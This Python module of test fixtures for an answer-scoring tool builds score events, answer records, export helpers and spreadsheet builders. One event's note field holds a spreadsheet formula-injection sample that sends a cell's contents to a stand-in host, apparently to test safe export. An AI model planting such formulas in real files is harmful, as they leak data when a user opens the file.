"""Scores to exchange in tests, and files as people and programs leave them."""

from __future__ import annotations

import io
from pathlib import Path
from typing import TYPE_CHECKING

import openpyxl

from genaipa.scoring.answers import Occurrence, PooledAnswer
from genaipa.scoring.events import Event, ScreenContents
from genaipa.scoring.tables import write_scores
from rubrics import PAPER, typed

if TYPE_CHECKING:
    from collections.abc import Sequence

    from genaipa.scoring.store import ScoreStore

GOOD = typed("11223")
HEAD = "digest,relevance,accuracy,clarity,completeness,reference,note,analyst"
FORMULA = '=HYPERLINK("http://example.com/?"&A1)'


def digest(n: int) -> str:
    """The digest of the n-th answer."""
    return f"{n:064x}"


ANSWERS = {
    digest(n): PooledAnswer(
        digest=digest(n),
        document_digest="d" * 64,
        kind="policy",
        status="answered",
        occurrences=[Occurrence("run-1", f"key{n}", "extractive", "acme", "document", "original", 1, f"Q{n}", "T", 0)],
    )
    for n in range(1, 10)
}


def event(n: int = 1, **changes: object) -> Event:
    """A score of the n-th answer."""
    fields = {
        "id": f"id{n}",
        "time": f"2026-05-04T12:30:{n:02}.000Z",
        "kind": "score",
        "analyst": "Ann",
        "answer": digest(n),
        "values": GOOD,
    }
    return Event(**fields | changes)


HISTORY = [
    event(
        1, seconds=12.5, note="fine", suggested={"reference": -1.0, "accuracy": 0.5}, preselected=True, order="question"
    ),
    event(2, calibration=True, blind=False, pinned=True, shown=ScreenContents(nearest=True, grey=True)),
    event(3, kind="skip", values=None),
    event(4, answer=digest(1), values=typed("22222"), note="second thoughts\nover two lines"),
    event(5, answer=digest(2), kind="undo", values=None, undoes="id2"),
    event(6, answer=digest(1), analyst="Bo", note=FORMULA, shown=ScreenContents()),
    event(7, answer=digest(1), analyst="Cy", kind="adjudication"),
    event(8, scorer="machine", analyst="judge"),
    event(9, analyst="Dee", kind="look", values=None, blind=False, independent=False),
    event(
        10,
        answer=digest(9),
        analyst="Dee",
        independent=False,
        shown=ScreenContents(
            evidence=("accuracy", "reference"),
            suggestion=("accuracy",),
            withheld={"reference": -1.0},
            aids={"nearest": True, "evidence": False},
        ),
    ),
]


def kept(store: ScoreStore) -> list[Event]:
    """Everything in a store."""
    return [event for _, event in store.read_numbered_events()]


def exported(suffix: str, events: Sequence[Event]) -> bytes:
    """What is written of these events in a format."""
    file = io.BytesIO()
    write_scores(file, suffix, events, ANSWERS, PAPER)
    return file.getvalue()


def written(name: str, content: str | bytes) -> Path:
    """A file with that content."""
    path = Path(name)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def spreadsheet(name: str, *rows: Sequence[object], title: str = "scores") -> Path:
    """A spreadsheet as some other program writes it."""
    workbook = openpyxl.Workbook()
    workbook.active.title = title
    for row in rows:
        workbook.active.append(row)
    workbook.save(name)
    return Path(name)


def check_problems(problems: list[str], *facts: tuple[str, ...]) -> None:
    """Each problem has its facts in it, in the order of both: where it is, what is wrong, and what is possible."""
    for problem, words in zip(problems, facts, strict=True):
        assert [word for word in words if word not in problem] == [], problem
